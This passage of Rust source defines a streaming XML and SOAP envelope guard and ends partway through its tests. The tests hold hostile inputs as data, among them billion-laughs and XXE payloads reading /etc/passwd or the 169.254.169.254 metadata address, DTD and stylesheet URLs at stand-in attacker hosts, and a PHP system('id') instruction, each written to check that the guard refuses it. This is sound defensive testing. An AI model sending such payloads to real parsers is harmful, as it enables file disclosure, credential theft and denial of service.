        } else if self.starts.is_empty() {
            return Err(not_wf("it has a CDATA section outside the root element"));
        } else {
            State::CData
        };
        self.len = 0;
        Ok(())
    }

    /// Counts one more byte of the current text, comment, CDATA or attribute value.
    fn count(&mut self, limit: u64) -> Result<(), XmlError> {
        self.len += 1;
        if self.len <= limit {
            return Ok(());
        }
        Err(
            if matches!(
                self.state,
                State::AttrValue { .. } | State::Ref { quote: 1.. }
            ) {
                XmlError::AttributeLength {
                    limit: self.limits.max_attribute_length,
                }
            } else {
                XmlError::TextLength { limit }
            },
        )
    }

    /// One byte of text or CDATA content: counted, and captured if it is a Header field's.
    fn text_byte(&mut self, b: u8) -> Result<(), XmlError> {
        self.count(self.limits.max_text_length)?;
        if self.capturing()
            && let Some(soap) = self.soap.as_mut()
        {
            soap.capture_byte(b)?;
        }
        Ok(())
    }

    /// Back to text or to the prolog/epilog after a comment or CDATA section.
    fn end_markup(&mut self) {
        self.len = 0;
        self.state = if self.starts.is_empty() {
            State::Misc
        } else {
            State::Text
        };
    }

    fn element_name_byte(&mut self, b: u8) -> Result<(), XmlError> {
        let start = self.starts.last().copied().unwrap_or(0);
        if self.names.len() - start >= self.limits.max_name_length as usize {
            return Err(XmlError::NameLength {
                limit: self.limits.max_name_length,
            });
        }
        self.names.push(b);
        Ok(())
    }

    fn begin_attribute(&mut self, b: u8) -> Result<(), XmlError> {
        self.attributes += 1;
        if self.attributes > self.limits.max_attributes {
            return Err(XmlError::Attributes {
                limit: self.limits.max_attributes,
            });
        }
        self.attr_name_len = 0;
        self.attr_key = FNV_OFFSET;
        if let Some(soap) = self.soap.as_mut() {
            soap.attr_name.clear();
            soap.ns_value.clear();
            soap.ns_decl = false;
        }
        self.state = State::AttrName;
        self.attribute_name_byte(b)
    }

    /// The attribute's name is read: it must not be one the element already has.
    fn end_attribute_name(&mut self) -> Result<(), XmlError> {
        let key = self.attr_key;
        let new = if self.attr_keys.len() < FEW_ATTRIBUTES {
            let new = !self.attr_keys.contains(&key);
            self.attr_keys.push(key);
            new
        } else {
            if self.attr_set.is_empty() {
                self.attr_set.extend(self.attr_keys.iter().copied());
            }
            self.attr_set.insert(key)
        };
        if new {
            Ok(())
        } else {
            Err(not_wf("an element gives the same attribute twice"))
        }
    }

    fn attribute_name_byte(&mut self, b: u8) -> Result<(), XmlError> {
        self.attr_key = fnv(self.attr_key, &b);
        self.attr_name_len += 1;
        if self.attr_name_len > self.limits.max_name_length {
            return Err(XmlError::NameLength {
                limit: self.limits.max_name_length,
            });
        }
        let tracking = self.tracking();
        if let Some(soap) = self.soap.as_mut().filter(|_| tracking) {
            soap.attr_name.push(b);
            soap.ns_decl = is_ns_declaration(&soap.attr_name);
        }
        Ok(())
    }

    fn end_attribute(&mut self) {
        self.state = State::InTag { ws: false };
        let depth = self.starts.len();
        if let Some(soap) = self.soap.as_mut().filter(|s| s.ns_decl) {
            let prefix = soap.attr_name.get(6..).unwrap_or_default().to_vec();
            let ns = classify(&soap.ns_value);
            soap.bindings.push(Binding { depth, prefix, ns });
            soap.ns_decl = false;
        }
    }

    fn reference_byte(&mut self, b: u8, quote: u8) -> Result<(), XmlError> {
        if quote == 0 {
            self.count(self.limits.max_text_length)?;
        } else {
            self.count(u64::from(self.limits.max_attribute_length))?;
        }
        let r = &mut self.reference;
        let decoded = match (r.kind, b) {
            (RefKind::Start, b'#') => {
                r.kind = RefKind::Hash;
                None
            }
            (RefKind::Start | RefKind::Name, _) if is_name_char(b) => {
                if r.kind == RefKind::Start && !is_name_start(b) {
                    return Err(r.error());
                }
                r.kind = RefKind::Name;
                if r.raw.len() >= MAX_REF_NAME {
                    r.raw.extend_from_slice("…".as_bytes());
                    return Err(r.error());
                }
                r.raw.push(b);
                None
            }
            (RefKind::Name, b';') => Some(match r.raw.as_slice() {
                b"lt" => '<',
                b"gt" => '>',
                b"amp" => '&',
                b"apos" => '\'',
                b"quot" => '"',
                _ => return Err(r.error()),
            }),
            (RefKind::Hash, b'x') => {
                r.kind = RefKind::Hex;
                None
            }
            (RefKind::Hash | RefKind::Dec, b'0'..=b'9') => {
                r.kind = RefKind::Dec;
                r.digit(u32::from(b - b'0'), 10);
                None
            }
            (RefKind::Hex, _) if b.is_ascii_hexdigit() => {
                r.digit(char::from(b).to_digit(16).unwrap_or(0), 16);
                None
            }
            (RefKind::Dec | RefKind::Hex, b';') if r.digits && is_xml_char(r.value) => {
                char::from_u32(r.value)
            }
            _ => return Err(r.error()),
        };
        if b != b';' {
            if r.raw.len() < MAX_REF_NAME && r.kind != RefKind::Name {
                r.raw.push(b);
            }
            return Ok(());
        }
        let mut utf8 = [0; 4];
        let bytes = decoded
            .unwrap_or('\u{FFFD}')
            .encode_utf8(&mut utf8)
            .as_bytes();
        if quote == 0 {
            self.state = State::Text;
            if self.capturing()
                && let Some(soap) = self.soap.as_mut()
            {
                for &c in bytes {
                    soap.capture_byte(c)?;
                }
            }
        } else {
            self.state = State::AttrValue { quote };
            if let Some(soap) = self.soap.as_mut().filter(|s| s.ns_decl) {
                bytes.iter().for_each(|&c| soap.push_ns_byte(c));
            }
        }
        Ok(())
    }

    /// Namespace declarations matter only for the root check and the Header capture.
    fn tracking(&self) -> bool {
        let depth = self.starts.len();
        self.soap
            .as_ref()
            .is_some_and(|s| !s.past_body && depth <= if s.done { 2 } else { 3 })
    }

    /// Text at depth 3 while a Header field's element is open is that field's value.
    fn capturing(&self) -> bool {
        self.starts.len() == 3 && self.soap.as_ref().is_some_and(|s| s.capture.is_some())
    }

    /// A start tag ended with `>` (or `/>` if `empty`).
    fn open_element(&mut self, empty: bool) -> Result<(), XmlError> {
        self.soap_open()?;
        if empty {
            self.close_element()?;
        } else {
            self.len = 0;
            self.state = State::Text;
        }
        Ok(())
    }

    /// An end tag (or `/>`) closed the innermost open element.
    fn close_element(&mut self) -> Result<(), XmlError> {
        self.soap_close()?;
        if let Some(start) = self.starts.pop() {
            self.names.truncate(start);
        }
        if self.starts.is_empty() {
            self.root_closed = true;
        }
        self.end_markup();
        Ok(())
    }

    fn soap_open(&mut self) -> Result<(), XmlError> {
        let depth = self.starts.len();
        let Some(soap) = self.soap.as_mut() else {
            return Ok(());
        };
        let name = &self.names[self.starts.last().copied().unwrap_or(0)..];
        let (prefix, local) = match memchr(b':', name) {
            Some(colon) => (&name[..colon], &name[colon + 1..]),
            None => (&name[..0], name),
        };
        if depth == 3 && soap.in_body && !soap.body_seen {
            soap.body_seen = true;
            soap.header.body_operation = Some(String::from_utf8_lossy(local).into_owned());
        }
        // A Header field holds text only: with child elements, the gateway and a provider
        // reading the element's text content would see two different values.
        if depth == 4 && soap.capture.is_some() {
            let name = soap.capture.map_or("", Field::name);
            return Err(XmlError::NotSoap {
                why: format!("the SOAP Header field {name} must hold text only"),
            });
        }
        // The Envelope holds at most one Header, then one Body, and nothing after it: a
        // second Header (or one after the Body) is one the provider might read instead.
        if depth == 2 && soap.body_opened {
            return Err(XmlError::NotSoap {
                why: format!(
                    "<{}> follows the SOAP Body, which must be the Envelope's last child",
                    String::from_utf8_lossy(name)
                ),
            });
        }
        if soap.past_body || depth > 3 {
            return Ok(());
        }
        let ns = soap.resolve(prefix);
        let envelope_ns = match soap.version {
            Some(SoapEnvelope::V11) => Some(Ns::Soap11),
            Some(SoapEnvelope::V12) => Some(Ns::Soap12),
            None => None,
        };
        match depth {
            1 => {
                let why = match (local, ns) {
                    (b"Envelope", Some(Ns::Soap11)) => {
                        soap.version = Some(SoapEnvelope::V11);
                        return Ok(());
                    }
                    (b"Envelope", Some(Ns::Soap12)) => {
                        soap.version = Some(SoapEnvelope::V12);
                        return Ok(());
                    }
                    (_, None) => format!(
                        "the namespace prefix '{}' of the root element is not declared",
                        String::from_utf8_lossy(prefix)
                    ),
                    (b"Envelope", _) => "the root element Envelope is not in the SOAP 1.1 \
                                         or SOAP 1.2 envelope namespace"
                        .to_owned(),
                    _ => format!(
                        "the root element is <{}>, not a SOAP Envelope",
                        String::from_utf8_lossy(name)
                    ),
                };
                return Err(XmlError::NotSoap { why });
            }
            2 => {
                let ours = ns.is_some() && ns == envelope_ns;
                if ours && local == b"Header" && !soap.done {
                    soap.in_header = true;
                } else if ours && local == b"Body" {
                    soap.in_body = true;
                    soap.body_opened = true;
                    soap.finish_header();
                    soap.leave_scopes();
                } else {
                    let why = if ours && local == b"Header" {
                        "the SOAP Envelope has more than one Header".to_owned()
                    } else {
                        format!(
                            "the SOAP Envelope holds <{}>, where only a Header and then a Body may stand",
                            String::from_utf8_lossy(name)
                        )
                    };
                    return Err(XmlError::NotSoap { why });
                }
            }
            3 if soap.in_header => {
                let field = match (ns, local) {
                    (Some(Ns::Fsp), b"Purpose") => Field::Purpose,
                    (Some(Ns::Fsp), b"EndUser") => Field::EndUser,
                    (Some(Ns::Wsa), b"MessageID") => Field::MessageId,
                    (Some(Ns::Wsa), b"Action") => Field::Action,
                    (Some(Ns::Wsa), b"To") => Field::To,
                    _ => return Ok(()),
                };
                // Two values would let the gateway and the provider each pick a different one.
                if soap.seen.contains(&field) {
                    return Err(XmlError::NotSoap {
                        why: format!("the SOAP Header has more than one {}", field.name()),
                    });
                }
                soap.seen.push(field);
                soap.capture = Some(field);
                soap.value.clear();
            }
            _ => {}
        }
        Ok(())
    }

    fn mixed_field(&self) -> XmlError {
        let name = self
            .soap
            .as_ref()
            .and_then(|s| s.capture)
            .map_or("", Field::name);
        XmlError::NotSoap {
            why: format!("the SOAP Header field {name} must hold text only"),
        }
    }

    fn soap_close(&mut self) -> Result<(), XmlError> {
        let depth = self.starts.len();
        let Some(soap) = self.soap.as_mut() else {
            return Ok(());
        };
        if depth == 3
            && let Some(field) = soap.capture.take()
        {
            let value = &soap.value;
            let end = value.iter().rposition(|&b| !is_ws(b)).map_or(0, |p| p + 1);
            let text = (end > 0).then(|| String::from_utf8_lossy(&value[..end]).into_owned());
            let header = &mut soap.header;
            *match field {
                Field::Purpose => &mut header.purpose,
                Field::EndUser => &mut header.end_user,
                Field::MessageId => &mut header.message_id,
                Field::Action => &mut header.action,
                Field::To => &mut header.to,
            } = text;
        }
        if depth == 2 {
            if soap.in_header {
                soap.in_header = false;
                soap.finish_header();
            }
            soap.in_body = false;
        }
        if depth == 1 {
            // SOAP 1.1 and 1.2 both require the Body: refused on the Envelope's last
            // byte, which is then never forwarded.
            if !soap.body_opened {
                return Err(XmlError::NotSoap {
                    why: "the SOAP Envelope has no Body".into(),
                });
            }
            soap.finish_header();
            soap.leave_scopes();
        }
        while soap.bindings.last().is_some_and(|b| b.depth >= depth) {
            soap.bindings.pop();
        }
        Ok(())
    }
}

impl Soap {
    /// The namespace of `prefix` (empty: the default namespace); `None` if it is not declared.
    fn resolve(&self, prefix: &[u8]) -> Option<Ns> {
        match self.bindings.iter().rev().find(|b| b.prefix == prefix) {
            Some(binding) => Some(binding.ns),
            None if prefix.is_empty() => Some(Ns::None),
            None if prefix == b"xml" => Some(Ns::Other),
            None => None,
        }
    }

    fn finish_header(&mut self) {
        self.done = true;
        self.capture = None;
        self.value = Vec::new();
    }

    fn leave_scopes(&mut self) {
        self.past_body = true;
        self.bindings = Vec::new();
    }

    /// Keeps the value trimmed without buffering unbounded whitespace: leading whitespace is
    /// dropped, and once 1024 bytes are held any further non-space byte is an error anyway.
    fn capture_byte(&mut self, b: u8) -> Result<(), XmlError> {
        if is_ws(b) {
            if !self.value.is_empty() && self.value.len() < MAX_FIELD {
                self.value.push(b);
            }
            return Ok(());
        }
        if self.value.len() >= MAX_FIELD {
            let name = self.capture.map_or("", Field::name);
            return Err(XmlError::NotSoap {
                why: format!("the SOAP Header field {name} is longer than {MAX_FIELD} bytes"),
            });
        }
        self.value.push(b);
        Ok(())
    }

    /// One byte past `MAX_NS_URI` is enough to know the URI is none of ours.
    fn push_ns_byte(&mut self, b: u8) {
        if self.ns_value.len() <= MAX_NS_URI {
            self.ns_value.push(b);
        }
    }
}

impl Reference {
    fn digit(&mut self, d: u32, base: u32) {
        self.digits = true;
        // Saturate above the largest code point: leading zeros stay valid, overflow does not.
        self.value = (self.value * base + d).min(0x11_0000);
    }

    fn error(&self) -> XmlError {
        XmlError::EntityReference {
            name: String::from_utf8_lossy(&self.raw).into_owned(),
        }
    }
}

fn classify(uri: &[u8]) -> Ns {
    match uri {
        b"" => Ns::None,
        SOAP11_NS => Ns::Soap11,
        SOAP12_NS => Ns::Soap12,
        FSP_NS => Ns::Fsp,
        WSA_NS | WSA_2004_NS => Ns::Wsa,
        _ => Ns::Other,
    }
}

/// Checks the pseudo-attributes of `<?xml ...?>`, above all `encoding`.
/// Checks an XML declaration (`version`, then `encoding`, then `standalone`, each at most
/// once: parsers differ on a repeated one); returns whether the encoding it names, if
/// any, is UTF-8 (or US-ASCII).
fn check_declaration(decl: &[u8]) -> Result<Option<bool>, XmlError> {
    let malformed = || not_wf("its XML declaration is malformed");
    let mut rest = trim_ws(decl);
    let mut version = false;
    let mut utf8 = None;
    // The rank of the last pseudo-attribute read: each must come after the one before.
    let mut rank = 0;
    while !rest.is_empty() {
        let name_len = rest
            .iter()
            .position(|b| !b.is_ascii_alphabetic())
            .unwrap_or(rest.len());
        let (name, after) = rest.split_at(name_len);
        let after = trim_ws(after).strip_prefix(b"=").ok_or_else(malformed)?;
        let (&quote, after) = trim_ws(after).split_first().ok_or_else(malformed)?;
        if quote != b'"' && quote != b'\'' {
            return Err(malformed());
        }
        let end = memchr(quote, after).ok_or_else(malformed)?;
        let value = &after[..end];
        rest = &after[end + 1..];
        if rest.first().is_some_and(|&b| !is_ws(b)) {
            return Err(malformed());
        }
        rest = trim_ws(rest);
        let this = match name {
            b"version" if value.starts_with(b"1.") => {
                version = true;
                1
            }
            b"encoding" => {
                check_encoding(value)?;
                utf8 = Some(is_utf8_name(value));
                2
            }
            b"standalone" if value == b"yes" || value == b"no" => 3,
            _ => return Err(malformed()),
        };
        if this <= rank || (rank == 0 && this != 1) {
            return Err(malformed());
        }
        rank = this;
    }
    if version { Ok(utf8) } else { Err(malformed()) }
}

/// Whether an encoding's name is UTF-8's (US-ASCII is a part of it).
fn is_utf8_name(name: &[u8]) -> bool {
    name.eq_ignore_ascii_case(b"utf-8") || name.eq_ignore_ascii_case(b"us-ascii")
}

/// The `charset` parameters of a `Content-Type` value.
fn charsets(content_type: &str) -> impl Iterator<Item = &str> {
    content_type.split(';').skip(1).filter_map(|param| {
        let (name, value) = param.split_once('=')?;
        name.trim()
            .eq_ignore_ascii_case("charset")
            .then(|| value.trim().trim_matches('"'))
    })
}

/// What a `Content-Type` value says of its charset: `Some(true)` UTF-8 (or US-ASCII),
/// `Some(false)` another (any other, when it is given more than once), `None` nothing.
pub fn said_charset(content_type: &str) -> Option<bool> {
    charsets(content_type).fold(None, |said, c| {
        Some(said.unwrap_or(true) && is_utf8_name(c.as_bytes()))
    })
}

/// Whether a `Content-Type` value gives its `charset` more than once.
pub fn charset_given_twice(content_type: &str) -> bool {
    charsets(content_type).nth(1).is_some()
}

/// UTF-8 checked as a stream: the bytes of a character cut by the end of a piece are
/// held (not scanned yet) until the next piece completes them.
#[derive(Clone, Debug, Default)]
struct Utf8 {
    held: [u8; 4],
    len: usize,
}

/// The `charset` parameter of a `Content-Type` value, when it names an encoding the guard
/// cannot read as a parser would ([`check_encoding`]); `None` when it is absent or fine.
pub fn unreadable_charset(content_type: &str) -> Option<&str> {
    charsets(content_type).find(|c| check_encoding(c.as_bytes()).is_err())
}

/// Encodings in which every ASCII byte means its ASCII character, so the byte scan is sound.
pub fn check_encoding(name: &[u8]) -> Result<(), XmlError> {
    let lower = name.to_ascii_lowercase();
    let accepted = match lower.as_slice() {
        b"utf-8" | b"us-ascii" | b"windows-1252" => true,
        _ => lower
            .strip_prefix(b"iso-8859-")
            .and_then(|n| std::str::from_utf8(n).ok())
            .filter(|n| !n.starts_with('0'))
            .and_then(|n| n.parse::<u8>().ok())
            .is_some_and(|n| (1..=15).contains(&n)),
    };
    if accepted {
        Ok(())
    } else {
        Err(encoding(&String::from_utf8_lossy(name)))
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;

/// Up to this many attributes on an element, their keys are compared one by one.
const FEW_ATTRIBUTES: usize = 16;

/// Hashes an attribute's key (already a hash) as itself.
#[derive(Default)]
struct KeyHasher(u64);

impl std::hash::Hasher for KeyHasher {
    fn write(&mut self, bytes: &[u8]) {
        self.0 = bytes.iter().fold(self.0, fnv);
    }

    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

/// One byte into a 64-bit FNV-1a hash.
fn fnv(h: u64, b: &u8) -> u64 {
    (h ^ u64::from(*b)).wrapping_mul(0x0000_0100_0000_01b3)
}

fn trim_ws(s: &[u8]) -> &[u8] {
    let start = s.iter().position(|&b| !is_ws(b)).unwrap_or(s.len());
    &s[start..]
}

fn not_wf(why: impl Into<String>) -> XmlError {
    XmlError::NotWellFormed { why: why.into() }
}

fn encoding(found: &str) -> XmlError {
    XmlError::Encoding {
        found: found.to_owned(),
    }
}

fn is_ws(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r')
}

/// C0 controls other than tab, LF and CR are not XML characters, even escaped as raw bytes.
fn is_control(b: u8) -> bool {
    b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')
}

/// Any byte >= 0x80 is accepted, as part of a UTF-8 encoded non-ASCII name.
fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b == b':' || b >= 0x80
}

fn is_name_char(b: u8) -> bool {
    is_name_start(b) || b.is_ascii_digit() || b == b'-' || b == b'.'
}

/// How many bytes at the start of `window` are name characters.
fn name_run(window: &[u8]) -> usize {
    window.iter().take_while(|&&b| is_name_char(b)).count()
}

fn is_ns_declaration(attribute: &[u8]) -> bool {
    attribute == b"xmlns" || attribute.starts_with(b"xmlns:")
}

/// XML 1.0 `Char`.
fn is_xml_char(c: u32) -> bool {
    matches!(c, 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x1_0000..=0x10_FFFF)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;
    use proptest::prelude::*;

    const S11: &str = "http://schemas.xmlsoap.org/soap/envelope/";
    const S12: &str = "http://www.w3.org/2003/05/soap-envelope";
    const FSP: &str = "urn:be:fgov:fsp:1";
    const WSA: &str = "http://www.w3.org/2005/08/addressing";
    const WSA04: &str = "http://schemas.xmlsoap.org/ws/2004/08/addressing";

    /// What a guard ends up with after a document, fed in the given chunks.
    #[derive(Debug, PartialEq)]
    struct Outcome {
        result: Result<(), XmlError>,
        consumed: u64,
        header: Option<SoapHeader>,
        version: Option<SoapEnvelope>,
    }

    fn run<'a>(mut guard: Guard, chunks: impl IntoIterator<Item = &'a [u8]>) -> Outcome {
        let mut result = Ok(());
        for chunk in chunks {
            result = guard.feed(chunk);
            if result.is_err() {
                break;
            }
        }
        if result.is_ok() {
            result = guard.finish();
        }
        Outcome {
            result,
            consumed: guard.consumed(),
            header: guard.soap_header().cloned(),
            version: guard.soap_version(),
        }
    }

    fn plain(doc: &[u8]) -> Result<(), XmlError> {
        run(Guard::new(Limits::default()), [doc]).result
    }

    fn soap(doc: &str) -> Outcome {
        run(Guard::soap(Limits::default(), 1 << 20), [doc.as_bytes()])
    }

    fn header(doc: &str) -> SoapHeader {
        let outcome = soap(doc);
        assert_eq!(outcome.result, Ok(()), "{doc}");
        outcome.header.expect("header done")
    }

    fn env11(header: &str, body: &str) -> String {
        format!(
            r#"<s:Envelope xmlns:s="{S11}"><s:Header>{header}</s:Header><s:Body>{body}</s:Body></s:Envelope>"#
        )
    }

    fn not_wf(result: Result<(), XmlError>) -> bool {
        matches!(result, Err(XmlError::NotWellFormed { .. }))
    }

    // ---- attacks ----

    #[test]
    fn billion_laughs_is_refused_at_the_doctype() {
        let doc = br#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
        let outcome = run(Guard::new(Limits::default()), [&doc[..]]);
        assert_eq!(outcome.result, Err(XmlError::Doctype));
        // Refused at the 'D' of <!DOCTYPE, before any entity is even declared.
        assert_eq!(outcome.consumed, 25);
    }

    #[test]
    fn external_and_parameter_entities_are_refused() {
        for doc in [
            r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>"#,
            r#"<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><foo/>"#,
            r#"<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>"#,
            r#"<a><!ENTITY x "y"></a>"#,
            r#"<a><![INCLUDE[ x ]]></a>"#,
            r#"<a><!-x --></a>"#,
        ] {
            assert_eq!(plain(doc.as_bytes()), Err(XmlError::Doctype), "{doc}");
        }
        let soap_xxe = env11(
            "",
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>"#,
        );
        assert_eq!(soap(&soap_xxe).result, Err(XmlError::Doctype));
    }

    #[test]
    fn processing_instructions_are_refused() {
        let pi = env11(
            "",
            r#"<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><op/>"#,
        );
        assert_eq!(soap(&pi).result, Err(XmlError::ProcessingInstruction));
        for doc in [
            r#"<?xml-stylesheet href="x.xsl"?><a/>"#,
            r#"<a/><?php system('id'); ?>"#,
            r#" <?xml version="1.0"?><a/>"#,
            r#"<?xml version="1.0"?><?xml version="1.0"?><a/>"#,
            r#"<?XML version="1.0"?><a/>"#,
        ] {
            assert_eq!(
                plain(doc.as_bytes()),
                Err(XmlError::ProcessingInstruction),
                "{doc}"
            );
        }
    }

    #[test]
    fn deep_nesting_stops_at_depth_65_with_little_memory() {
        let doc = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
        let mut guard = Guard::new(Limits::default());
        assert_eq!(
            guard.feed(doc.as_bytes()),
            Err(XmlError::Depth { limit: 64 })
        );
        // At the 'a' of the 65th start tag.
        assert_eq!(guard.consumed(), 64 * 3 + 2);
        assert_eq!(guard.starts.len(), 64);
        assert!(guard.names.capacity() < 1024);
        let ok = format!("{}{}", "<a>".repeat(64), "</a>".repeat(64));
        assert_eq!(plain(ok.as_bytes()), Ok(()));
    }

    #[test]
    fn attribute_count_is_limited() {
        let attrs = |n: usize| (0..n).map(|i| format!(" a{i}='{i}'")).collect::<String>();
        let doc = format!("<e{}/>", attrs(65));
        assert_eq!(
            plain(doc.as_bytes()),
            Err(XmlError::Attributes { limit: 64 })
        );
        let doc = format!("<e{}/>", attrs(64));
        assert_eq!(plain(doc.as_bytes()), Ok(()));
        // Namespace declarations count too.
        let doc = format!("<e xmlns='urn:x'{}/>", attrs(64));
        assert_eq!(
            plain(doc.as_bytes()),
            Err(XmlError::Attributes { limit: 64 })
        );
    }

    #[test]
    fn names_are_limited() {
        let long = "n".repeat(257);
        let limit = Err(XmlError::NameLength { limit: 256 });
        assert_eq!(plain(format!("<{long}/>").as_bytes()), limit);
        assert_eq!(plain(format!("<p:{}/>", &long[2..]).as_bytes()), limit);
        assert_eq!(plain(format!("<a {long}='x'/>").as_bytes()), limit);
        let ok = &long[..256];
        assert_eq!(plain(format!("<{ok} {ok}='x'></{ok}>").as_bytes()), Ok(()));
    }

    #[test]
    fn text_comments_cdata_and_attribute_values_are_limited() {
        let limits = Limits {
            max_text_length: 10,
            max_attribute_length: 5,
            ..Limits::default()
        };
        let check = |doc: &str| run(Guard::new(limits), [doc.as_bytes()]).result;
        let text = Err(XmlError::TextLength { limit: 10 });
        let attr = Err(XmlError::AttributeLength { limit: 5 });
        assert_eq!(check("<a>0123456789</a>"), Ok(()));
        assert_eq!(check("<a>01234567890</a>"), text);
        assert_eq!(check("<a>0123456&amp;</a>"), text);
        assert_eq!(check("<a><!--0123456789--></a>"), Ok(()));
        assert_eq!(check("<a><!--01234567890--></a>"), text);
        assert_eq!(check("<a/><!--01234567890-->"), text);
        assert_eq!(check("<a><![CDATA[01234]]]]]]56789]]></a>"), text);
        assert_eq!(check("<a><![CDATA[012345678]]]></a>"), Ok(()));
        assert_eq!(check("<a b='01234'/>"), Ok(()));
        assert_eq!(check("<a b='012345'/>"), attr);
        assert_eq!(check("<a b='01&lt;'/>"), attr);
        // The limit is per node: comments and elements start new ones.
        assert_eq!(
            check("<a>0123456789<!---->0123456789<b/>0123456789</a>"),
            Ok(())
        );
        let huge = format!("<a>{}</a>", "x".repeat(20_000_000));
        assert_eq!(
            plain(huge.as_bytes()),
            Err(XmlError::TextLength { limit: 16 << 20 })
        );
    }

    #[test]
    fn only_predefined_entities_and_valid_character_references_pass() {
        let entity = |name: &str| Err(XmlError::EntityReference { name: name.into() });
        assert_eq!(plain(b"<foo>&xxe;</foo>"), entity("xxe"));
        assert_eq!(plain(b"<foo a='&xxe;'/>"), entity("xxe"));
        assert_eq!(plain(b"<a>&#0;</a>"), entity("#0"));
        assert_eq!(plain(b"<a>&#xD800;</a>"), entity("#xD800"));
        assert_eq!(plain(b"<a>&#x110000;</a>"), entity("#x110000"));
        assert_eq!(plain(b"<a>&#99999999999;</a>"), entity("#99999999999"));
        assert_eq!(plain(b"<a>&#x1;</a>"), entity("#x1"));
        assert_eq!(plain(b"<a>&#;</a>"), entity("#"));
        assert_eq!(plain(b"<a>&#x;</a>"), entity("#x"));
        assert_eq!(plain(b"<a>&#X41;</a>"), entity("#"));
        assert_eq!(plain(b"<a>a & b</a>"), entity(""));
        assert_eq!(plain(b"<a>&lt </a>"), entity("lt"));
        assert_eq!(plain(b"<a>&;</a>"), entity(""));
        assert_eq!(plain(b"<a>&1;</a>"), entity(""));
        let long = format!("<a>&{};</a>", "e".repeat(40));
        assert_eq!(
            plain(long.as_bytes()),
            entity(&format!("{}…", "e".repeat(32)))
        );
        assert_eq!(plain(b"<a>&a&amp;</a>"), entity("a"));
        assert_eq!(
            plain(b"<a b='&lt;&gt;&amp;&apos;&quot;&#9;&#x10FFFF;'>&#0000065;&#x00041;</a>"),
            Ok(())
        );
    }

    #[test]
    fn encodings_the_scan_cannot_see_through_are_refused() {
        let encoding = |found: &str| {
            Err(XmlError::Encoding {
                found: found.into(),
            })
        };
        assert_eq!(
            plain(b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-foo/+AD4-"),
            encoding("UTF-7")
        );
        assert_eq!(
            plain(b"<?xml version='1.0' encoding='UTF-16'?><a/>"),
            encoding("UTF-16")
        );
        assert_eq!(
            plain(b"<?xml version='1.0' encoding='ISO-8859-16'?><a/>"),
            encoding("ISO-8859-16")
        );
        let utf16le: Vec<u8> = "\u{FEFF}<a/>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let utf16be: Vec<u8> = "<a/>".encode_utf16().flat_map(u16::to_be_bytes).collect();
        for doc in [
            &utf16le[..],
            &utf16be,
            b"\xEF\xBB<a/>",
            b"a<a/>",
            b"{\"json\":1}",
        ] {
            let result = plain(doc);
            assert!(
                matches!(result, Err(XmlError::Encoding { .. })),
                "{result:?}"
            );
        }
    }

    #[test]
    fn a_utf8_document_must_be_valid_utf8_however_it_is_cut() {
        let fresh = || Guard::new(Limits::default());
        for bad in [
            &b"<a>\xc0\xbc!DOCTYPE</a>"[..], // an overlong '<'
            b"<a>\x80</a>",                  // a lone continuation byte
            b"<a>\xed\xa0\x80</a>",          // a surrogate
            b"<a>\xf4\x90\x80\x80</a>",      // beyond U+10FFFF
            b"<a b='\xe9t\xe9'/>",           // Latin-1 bytes with no charset said
            b"<a/>\xe2\x82",                 // cut inside a character at the end
            b"<a>\xe0\x80\x80</a>",          // an overlong NUL, wrong from its second byte
        ] {
            let whole = run(fresh(), [bad]);
            assert!(not_wf(whole.result.clone()), "{bad:?}: {:?}", whole.result);
            let bytes: Vec<&[u8]> = bad.chunks(1).collect();
            assert!(not_wf(run(fresh(), bytes).result), "{bad:?} byte by byte");
        }
        let good = "<a b='\u{e9}t\u{e9}'>\u{20ac} \u{1f600} \u{10ffff}</a>".as_bytes();
        for cut in 0..good.len() {
            let (x, y) = good.split_at(cut);
            assert!(run(fresh(), [x, y]).result.is_ok(), "{cut}");
        }
        // Another encoding, named by the XML declaration or the Content-Type: its bytes
        // are characters.
        let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a b='\xe9t\xe9'>\xe9</a>";
        assert!(run(fresh(), [&latin1[..]]).result.is_ok());
        let mut said = fresh();
        assert_eq!(said_charset("text/xml; charset=windows-1252"), Some(false));
        assert_eq!(said_charset("text/xml; charset=\"UTF-8\""), Some(true));
        assert_eq!(said_charset("text/xml"), None);
        said.charset_said(Some(false));
        assert!(run(said, [&b"<a>\xe9</a>"[..]]).result.is_ok());
    }

    /// One encoding, said once: where the Content-Type, a byte order mark and the XML
    /// declaration disagree, or the declaration repeats itself, parsers differ on which
    /// wins, and a UTF-8 check switched off by one could be what another reads.
    #[test]
    fn the_encoding_is_said_once_and_consistently() {
        let decl = |pseudo: &str| format!("<?xml {pseudo}?><a/>");
        for bad in [
            "version='1.0' encoding='UTF-8' encoding='ISO-8859-1'",
            "encoding='UTF-8' version='1.0'",
            "version='1.0' standalone='yes' encoding='UTF-8'",
            "version='1.0' version='1.0'",
        ] {
